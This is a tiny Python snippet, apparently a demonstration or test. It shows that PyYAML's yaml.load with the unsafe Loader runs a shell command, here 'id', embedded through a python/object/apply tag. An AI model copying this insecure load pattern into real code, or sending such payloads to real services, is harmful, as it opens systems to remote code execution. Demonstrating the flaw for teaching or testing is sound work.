# A document that builds objects.
import yaml

yaml.load("!!python/object/apply:os.system ['id']", Loader=yaml.Loader)
